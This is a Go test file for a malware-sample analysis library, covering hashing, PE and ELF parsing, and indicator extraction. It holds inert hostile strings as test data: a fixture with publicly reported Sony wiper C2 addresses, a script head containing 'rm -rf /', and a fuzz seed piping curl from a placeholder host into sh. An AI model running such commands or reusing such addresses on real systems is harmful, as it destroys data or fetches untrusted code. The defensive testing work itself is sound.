package sample_test

import (
	"bytes"
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/culprit-cti/culprit/sample"
	"github.com/culprit-cti/culprit/sample/indicator"
	"github.com/culprit-cti/culprit/sample/internal/fixture"
	"github.com/culprit-cti/culprit/sample/printable"
	"github.com/culprit-cti/culprit/ssdeep"
	"github.com/culprit-cti/culprit/tlsh"
)

var now = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func wide(s string) []byte {
	var b []byte
	for _, c := range []byte(s) {
		b = append(b, c, 0)
	}
	return b
}

// wiperLike is a crafted PE that carries hard-coded C2 addresses the way
// the 2014 Sony wiper did (the addresses are the publicly reported ones),
// in ASCII and UTF-16LE, among filler code bytes.
func wiperLike() []byte {
	var text []byte
	for i := 0; i < 2048; i++ {
		text = append(text, byte(i*7+i/13))
	}
	text = append(text, 0)
	text = append(text, "203.131.222.102\x00\x00"...)
	text = append(text, wide("217.96.33.164")...)
	text = append(text, 0, 0, 0xff)
	text = append(text, "88.53.215.64:8000\x00version 1.0.0.0\x00"...)
	text = append(text, "http://update.example-cdn.com/igfxtrayex.exe\x00"...)
	return fixture.PE{
		Timestamp: uint32(time.Date(2014, 11, 22, 0, 0, 0, 0, time.UTC).Unix()),
		Imports:   []fixture.Import{{DLL: "KERNEL32.dll", Names: []string{"CreateFileW", "DeviceIoControl"}}, {DLL: "WS2_32.dll", Ordinals: []uint16{115}}},
		Text:      text,
		Resources: true,
	}.Build()
}

func TestAnalyzeWiperLike(t *testing.T) {
	b := wiperLike()
	rep, err := sample.Analyze(bytes.NewReader(b), int64(len(b)), sample.Options{Now: now, Strings: true})
	if err != nil {
		t.Fatal(err)
	}
	md := md5.Sum(b)
	sh := sha256.Sum256(b)
	td, err := tlsh.Sum(b)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"md5": hex.EncodeToString(md[:]), "sha256": hex.EncodeToString(sh[:]),
		"tlsh": td.String(), "ssdeep": ssdeep.Sum(b).String(), "type": "pe",
	}
	got := map[string]string{"md5": rep.MD5, "sha256": rep.SHA256, "tlsh": rep.TLSH, "ssdeep": rep.SSDEEP, "type": string(rep.Type)}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("hashes (-want +got):\n%s", diff)
	}
	if rep.Size != int64(len(b)) || len(rep.SHA1) != 40 {
		t.Errorf("Size = %d, SHA1 = %q; want %d and a SHA-1", rep.Size, rep.SHA1, len(b))
	}
	if rep.PE == nil {
		t.Fatalf("PE = nil; warnings %q", rep.Warnings)
	}
	wantImp := md5.Sum([]byte("kernel32.createfilew,kernel32.deviceiocontrol,ws2_32.wsastartup"))
	if rep.PE.ImpHash != hex.EncodeToString(wantImp[:]) {
		t.Errorf("ImpHash = %s, want %x", rep.PE.ImpHash, wantImp)
	}
	wantInd := []indicator.Indicator{
		{Kind: indicator.IPv4, Value: "203.131.222.102"},
		{Kind: indicator.IPv4, Value: "217.96.33.164"},
		{Kind: indicator.IPv4, Value: "88.53.215.64"},
		{Kind: indicator.URL, Value: "http://update.example-cdn.com/igfxtrayex.exe"},
		{Kind: indicator.Domain, Value: "update.example-cdn.com"},
	}
	if diff := cmp.Diff(wantInd, rep.Indicators); diff != "" {
		t.Errorf("indicators (-want +got):\n%s", diff)
	}
	if !slices.ContainsFunc(rep.Strings, func(s printable.String) bool { return s.Value == "217.96.33.164" && s.Encoding == "utf-16le" }) {
		t.Errorf("Strings lack the UTF-16LE address; got %d strings", len(rep.Strings))
	}
}

func TestStringCaps(t *testing.T) {
	var b []byte
	for i := 0; i < 500; i++ {
		b = append(b, "string number xx\x00"...)
	}
	tests := []struct {
		name      string
		opts      sample.Options
		wantKept  int
		truncated bool
	}{
		{"off", sample.Options{}, 0, false},
		{"all", sample.Options{Strings: true}, 500, false},
		{"count cap", sample.Options{Strings: true, MaxStrings: 10}, 10, true},
		{"byte cap", sample.Options{Strings: true, MaxStringBytes: 160}, 10, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep, err := sample.Analyze(bytes.NewReader(b), int64(len(b)), tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Strings) != tt.wantKept || rep.StringsTruncated != tt.truncated || rep.StringCount != 500 {
				t.Errorf("kept %d (truncated %v) of %d, want %d (truncated %v) of 500", len(rep.Strings), rep.StringsTruncated, rep.StringCount, tt.wantKept, tt.truncated)
			}
		})
	}
}

func TestIndicatorCap(t *testing.T) {
	var b []byte
	for i := 0; i < 50; i++ {
		b = append(b, []byte("10.0.0."+string(rune('0'+i%10))+string(rune('0'+i/10))+"\x00")...)
	}
	rep, err := sample.Analyze(bytes.NewReader(b), int64(len(b)), sample.Options{MaxIndicators: 5})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Indicators) != 5 || !rep.IndicatorsTruncated {
		t.Errorf("got %d indicators (truncated %v), want 5 (truncated)", len(rep.Indicators), rep.IndicatorsTruncated)
	}
}

func TestIdentify(t *testing.T) {
	tests := []struct {
		name, head string
		want       sample.FileType
		detail     string
	}{
		{"mz", "MZ\x90\x00", sample.PE, ""},
		{"elf", "\x7fELF\x02\x01", sample.ELF, ""},
		{"macho64", "\xcf\xfa\xed\xfe\x07\x00", sample.MachO, "64-bit"},
		{"macho fat", "\xca\xfe\xba\xbe\x00\x00\x00\x02", sample.MachO, "universal"},
		{"java class", "\xca\xfe\xba\xbe\x00\x00\x00\x34", sample.Unknown, ""},
		{"pdf", "%PDF-1.7\n", sample.PDF, ""},
		{"docx", "PK\x03\x04....[Content_Types].xml....word/document.xml", sample.OOXML, "word"},
		{"zip", "PK\x03\x04....readme.txt", sample.ZIP, ""},
		{"gzip", "\x1f\x8b\x08", sample.Gzip, ""},
		{"ole2", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", sample.OLE2, ""},
		{"script", "#!/bin/sh -e\nrm -rf /\n", sample.Script, "/bin/sh -e"},
		{"text", "hello, world\n", sample.Text, ""},
		{"binary", "\x00\x01\x02\x03", sample.Unknown, ""},
		{"empty", "", sample.Unknown, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			typ, detail := sample.Identify([]byte(tt.head))
			if typ != tt.want || detail != tt.detail {
				t.Errorf("Identify(%q) = %q, %q; want %q, %q", tt.head, typ, detail, tt.want, tt.detail)
			}
		})
	}
}

func TestNotPE(t *testing.T) {
	b := append([]byte("MZ"), make([]byte, 200)...)
	rep, err := sample.Analyze(bytes.NewReader(b), int64(len(b)), sample.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Type != sample.MSDOS || rep.PE != nil || len(rep.Warnings) == 0 {
		t.Errorf("Type = %q, PE = %v, warnings %q; want ms-dos, nil and a warning", rep.Type, rep.PE, rep.Warnings)
	}
}

type failingReader struct{}

func (failingReader) ReadAt([]byte, int64) (int, error) { return 0, errors.New("disk on fire") }

func TestReadError(t *testing.T) {
	_, err := sample.Analyze(failingReader{}, 100, sample.Options{})
	if err == nil || !strings.Contains(err.Error(), "disk on fire") {
		t.Errorf("Analyze error = %v, want the read error", err)
	}
}

// TestHugeDeclaredSizes analyses a sparse file whose PE headers declare
// 4 GB sections and 65535 sections; the parse must stay bounded.
func TestHugeDeclaredSizes(t *testing.T) {
	b := wiperLike()
	le := func(off int, v uint32) {
		b[off], b[off+1], b[off+2], b[off+3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
	}
	lfanew := 0x100
	b[lfanew+6], b[lfanew+7] = 0xff, 0xff // NumberOfSections
	le(lfanew+24+240+16, 0xffffffff)      // first section raw size
	path := filepath.Join(t.TempDir(), "huge.exe")
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(path, 4<<20); err != nil {
		t.Fatal(err)
	}
	rep, err := sample.AnalyzeFile(path, sample.Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Size != 4<<20 || rep.PE == nil || len(rep.PE.Warnings) == 0 || rep.Path != path {
		t.Errorf("Size %d, PE %v, path %q; want 4 MiB, a PE with warnings, %q", rep.Size, rep.PE != nil, rep.Path, path)
	}
}

func TestAnalyzeFileErrors(t *testing.T) {
	if _, err := sample.AnalyzeFile(t.TempDir(), sample.Options{}); err == nil {
		t.Error("AnalyzeFile(directory) succeeded, want an error")
	}
	if _, err := sample.AnalyzeFile(filepath.Join(t.TempDir(), "missing"), sample.Options{}); err == nil {
		t.Error("AnalyzeFile(missing) succeeded, want an error")
	}
}

// crossBuild compiles a tiny Go program for goos/amd64 once per test run.
var crossBuild = sync.OnceValues(func() (map[string]string, error) {
	dir, err := os.MkdirTemp("", "culprit-sample-")
	if err != nil {
		return nil, err
	}
	src := filepath.Join(dir, "main.go")
	// Only the runtime is linked, to keep the build short on a cold cache.
	prog := "package main\n\nfunc main() { println(\"hello from culprit fixture http://fixture.example.org/\") }\n"
	if err := os.WriteFile(src, []byte(prog), 0o644); err != nil {
		return nil, err
	}
	goTool, err := exec.LookPath("go")
	if err != nil {
		return nil, err
	}
	out := map[string]string{}
	for _, goos := range []string{"windows", "linux"} {
		exe := filepath.Join(dir, "hello-"+goos)
		cmd := exec.Command(goTool, "build", "-o", exe, src)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GOOS="+goos, "GOARCH=amd64", "CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GO111MODULE=off")
		if msg, err := cmd.CombinedOutput(); err != nil {
			return nil, errors.New(string(msg))
		}
		out[goos] = exe
	}
	return out, nil
})

func TestCrossCompiled(t *testing.T) {
	if testing.Short() {
		t.Skip("builds Go programs")
	}
	exes, err := crossBuild()
	if err != nil {
		t.Skipf("cannot cross-compile: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(filepath.Dir(exes["linux"])) })
	t.Run("windows", func(t *testing.T) {
		rep, err := sample.AnalyzeFile(exes["windows"], sample.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Type != sample.PE || rep.PE == nil {
			t.Fatalf("Type = %q, want pe", rep.Type)
		}
		if rep.PE.Machine != "amd64" || rep.PE.Format != "PE32+" || rep.PE.ImpHash == "" || len(rep.PE.Warnings) != 0 {
			t.Errorf("PE = %s %s imphash %q warnings %q; want amd64 PE32+, an imphash, no warnings", rep.PE.Machine, rep.PE.Format, rep.PE.ImpHash, rep.PE.Warnings)
		}
		if len(rep.PE.Imports) == 0 || !strings.EqualFold(rep.PE.Imports[0].DLL, "kernel32.dll") {
			t.Errorf("Imports = %v, want kernel32.dll", rep.PE.Imports)
		}
		for _, sec := range rep.PE.Sections {
			if strings.HasPrefix(sec.Name, "/") {
				t.Errorf("section name %q: long name not resolved through the COFF string table", sec.Name)
			}
		}
		if !slices.Contains(rep.Indicators, indicator.Indicator{Kind: indicator.URL, Value: "http://fixture.example.org/"}) {
			t.Errorf("Indicators = %v, want the URL in the program", rep.Indicators)
		}
	})
	t.Run("linux", func(t *testing.T) {
		rep, err := sample.AnalyzeFile(exes["linux"], sample.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Type != sample.ELF || rep.ELF == nil {
			t.Fatalf("Type = %q, want elf", rep.Type)
		}
		if rep.ELF.Machine != "x86-64" || rep.ELF.Type != "EXEC" || len(rep.ELF.Warnings) != 0 {
			t.Errorf("ELF = %s %s warnings %q; want x86-64 EXEC and no warnings", rep.ELF.Machine, rep.ELF.Type, rep.ELF.Warnings)
		}
	})
}

func FuzzAnalyze(f *testing.F) {
	f.Add(wiperLike())
	f.Add(fixture.ELF{Needed: []string{"libc.so.6"}, Interpreter: "/lib/ld.so"}.Build())
	f.Add([]byte("#!/bin/sh\ncurl http://x.example.com/a | sh\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		rep, err := sample.Analyze(bytes.NewReader(b), int64(len(b)), sample.Options{Strings: true, Now: now})
		if err != nil {
			t.Fatalf("Analyze: %v", err)
		}
		if rep.Size != int64(len(b)) {
			t.Fatalf("Size = %d, want %d", rep.Size, len(b))
		}
	})
}
